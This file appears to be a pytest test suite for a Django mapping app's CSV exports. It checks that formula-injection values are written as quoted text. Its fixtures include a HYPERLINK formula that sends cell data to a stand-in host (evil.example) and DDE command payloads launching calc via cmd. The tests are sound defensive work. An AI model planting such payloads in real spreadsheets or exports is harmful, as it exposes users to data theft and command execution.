"""Item 8: text that a spreadsheet would run as a formula is written as text in every CSV."""

import csv
import io

import pytest

from tests.factories import make_polygon, make_source, make_territory

pytestmark = pytest.mark.django_db

FORMULAS = {
    "territory_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "claimed_by": "+cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def planted():
    territory = make_territory("planted", name=FORMULAS["territory_name"])
    source = make_source(title="@SUM(1+1)*cmd|' /C calc'!A0", publisher="\tWire")
    return make_polygon(
        territory,
        claimed_by=FORMULAS["claimed_by"],
        notes=FORMULAS["notes"],
        sources=[source],
    )


def rows(response):
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


def assert_neutralised(row):
    for column, text in FORMULAS.items():
        assert row[column] == "'" + text, column
    assert row["source_titles"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["source_publishers"] == "'\tWire"
    # Numbers and ordinary text are left as they are.
    assert row["territory"] == "planted" and float(row["area_km2"]) > 0
    assert row["wkt"].startswith("MULTIPOLYGON")


def test_the_public_csv_export_writes_formulas_as_text(client, planted):
    response = client.get("/api/v1/export", {"format": "csv"})
    [row] = rows(response)
    assert_neutralised(row)


def test_the_admin_csv_action_writes_formulas_as_text(admin_client, planted):
    response = admin_client.post(
        "/admin/mapapp/datedpolygon/",
        {"action": "export_csv", "_selected_action": [planted.pk], "index": 0},
    )
    assert response["Content-Type"].startswith("text/csv")
    [row] = rows(response)
    assert_neutralised(row)
